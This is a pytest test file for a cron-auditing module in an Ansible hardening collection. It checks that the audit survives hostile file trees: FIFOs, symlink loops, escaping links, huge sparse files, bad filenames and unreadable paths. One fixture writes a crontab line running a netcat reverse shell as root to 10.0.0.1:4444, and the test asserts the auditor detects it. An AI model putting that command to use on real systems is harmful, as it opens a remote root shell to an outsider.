"""cron_audit on hostile trees: it completes with findings, never crashes, hangs or reads whole."""
import json
import os
import resource
import shutil
import socket
import subprocess
import sys
import tempfile

from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
from cron_tree import base_tree, hostile_tree, write

from conftest import REPO  # noqa: E402
COLLECTIONS = os.path.join(REPO, ".collections")
SYSTEM_PYTHON = "/usr/bin/python3"     # stdlib-only audit; readable by uid 65534


def failed(result, check_id, subject=None):
    return [f for f in result["findings"] if f["status"] == "fail" and f["id"] == check_id
            and (subject is None or f["subject"] == subject)]


def entry(result, path):
    return [f for f in result["files"] if f["path"] == path][0]


def test_hostile_tree_completes_with_findings(tmp_path):
    hostile_tree(tmp_path, entries=30)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.bind(str(tmp_path / "etc/cron.d/sock"))
        result = cron.audit({"root": str(tmp_path), "max_entries": 20})
    finally:
        sock.close()
    json.dumps(result)
    # FIFO and socket: reported, never opened
    assert failed(result, "HG-CRON-006", "/etc/cron.d/fifo")[0]["evidence"]["type"] == "fifo"
    assert failed(result, "HG-CRON-006", "/etc/cron.d/sock")[0]["evidence"]["type"] == "socket"
    assert entry(result, "/etc/cron.d/fifo")["would_run"]["cronie"]["code"] == "NOT_REGULAR"
    # /dev/zero link and the escaping link
    zero = failed(result, "HG-CRON-007", "/etc/cron.d/zero")
    assert zero and zero[0]["evidence"]["resolved"] == "/dev/zero"
    # More ../ than the depth: the kernel stops at / of the audited system (issue 11), so the link
    # is judged inside root (here: broken, root has no /etc/shadow), never as the host's file.
    assert not failed(result, "HG-CRON-007", "/etc/cron.daily/escape")
    assert entry(result, "/etc/cron.daily/escape")["symlink"]["resolved"] == "/etc/shadow"
    assert failed(result, "HG-CRON-008", "/etc/cron.daily/escape")
    # loop and dangling links
    statuses = dict((f["subject"], f["evidence"]["status"]) for f in failed(result, "HG-CRON-008"))
    assert statuses == {"/etc/cron.d/loop-a": "loop", "/etc/cron.d/loop-b": "loop",
                        "/etc/cron.d/dangling": "broken", "/etc/cron.daily/escape": "broken"}
    # 4 GiB sparse file: oversized, read only the head
    huge = entry(result, "/var/spool/cron/crontabs/huge")
    assert huge["size"] == 4 << 30 and huge["scanned_bytes"] == 1024 * 1024
    assert failed(result, "HG-CRON-005", "/var/spool/cron/crontabs/huge")
    assert failed(result, "HG-CRON-003", "/var/spool/cron/crontabs/huge")
    # invalid UTF-8: audited, escaped in output
    assert entry(result, "/etc/cron.d/badutf8")["lines_scanned"] == 2
    # 1 MB single line: cut, reported
    long_line = failed(result, "HG-CRON-005", "/etc/cron.d/longline")[0]
    assert long_line["evidence"]["lines_over_cap"] == 1 and long_line["evidence"]["oversized"] is True
    # directory with more entries than max_entries
    trunc = failed(result, "HG-CRON-013", "/etc/cron.weekly")
    assert trunc and trunc[0]["evidence"]["listed"] == 20
    assert len([f for f in result["files"] if f["path"].startswith("/etc/cron.weekly/")]) == 20
    # the whole audit read a bounded amount
    assert result["facts"]["bytes_read"] <= 4 * 1024 * 1024


def test_undecodable_file_names_are_reported_safely(tmp_path):
    base_tree(tmp_path)
    raw = os.path.join(str(tmp_path).encode(), b"etc/cron.d/bad\xffname")
    with open(raw, "wb") as handle:
        handle.write(b"* * * * * root nc -e /bin/sh 10.0.0.1 4444\n")
    result = cron.audit({"root": str(tmp_path)})
    text = json.dumps(result)
    assert "bad\\\\xffname" in text
    assert failed(result, "HG-CRON-010", "/etc/cron.d/bad\\xffname")[0]["evidence"]["pattern"] == "netcat_exec"


def test_memory_stays_bounded_on_a_multi_gb_sparse_file(tmp_path):
    base_tree(tmp_path)
    path = write(tmp_path, "var/spool/cron/dump.rdb", b"REDIS0009")
    os.truncate(path, 3 << 30)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = cron.audit({"root": str(tmp_path)})
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert failed(result, "HG-CRON-001", "/var/spool/cron/dump.rdb")
    assert (after - before) < 64 * 1024       # KiB: far below the 3 GiB a naive read would need


def test_unreadable_paths_as_an_unprivileged_user():
    """Root reads everything: prove 'unreadable' with a real setuid(65534) subprocess."""
    top = tempfile.mkdtemp(prefix="hg-cron-unreadable-")
    try:
        os.chmod(top, 0o755)
        base_tree(top)
        write(top, "etc/cron.d/secret", "0 * * * * root /bin/true\n", mode=0o600)
        os.makedirs(os.path.join(top, "etc/rc.d/private"))
        os.chmod(os.path.join(top, "etc/rc.d"), 0o755)
        os.chmod(os.path.join(top, "etc/rc.d/private"), 0o700)
        os.mkdir(os.path.join(top, "var/spool/cron/crontabs"))
        os.chmod(os.path.join(top, "var/spool/cron/crontabs"), 0o700)
        code = (
            "import json, os, sys\n"
            "os.setgroups([]); os.setgid(65534); os.setuid(65534)\n"
            "assert os.getuid() == 65534\n"
            "sys.path.insert(0, %r)\n"
            "from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron\n"
            "print(json.dumps(cron.audit({'root': %r})))\n" % (COLLECTIONS, top))
        proc = subprocess.run([SYSTEM_PYTHON, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              cwd="/", check=False)
        assert proc.returncode == 0, proc.stderr.decode()
        result = json.loads(proc.stdout.decode())
        errors = dict((f["subject"], f) for f in result["findings"]
                      if f["id"] == "HG-CRON-012" and f["status"] == "error")
        assert set(errors) >= {"/etc/cron.d/secret", "/etc/rc.d/private", "/var/spool/cron/crontabs"}
        assert "permission denied" in errors["/etc/cron.d/secret"]["detail"]
        secret = [f for f in result["files"] if f["path"] == "/etc/cron.d/secret"][0]
        assert secret["status"] == "error" and secret["mode"] == "0600"
    finally:
        shutil.rmtree(top, ignore_errors=True)


def test_module_runs_under_system_python_without_ansible_imports():
    """The logic is stdlib-only: importable by a bare Python 3 (what AnsiballZ ships)."""
    code = ("import sys; sys.path.insert(0, %r)\n"
            "from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron\n"
            "print(len(cron.CHECKS))\n" % COLLECTIONS)
    out = subprocess.run([SYSTEM_PYTHON, "-c", code], stdout=subprocess.PIPE, check=True).stdout
    assert int(out) == len(cron.CHECKS)
    assert sys.version_info >= (3, 8)
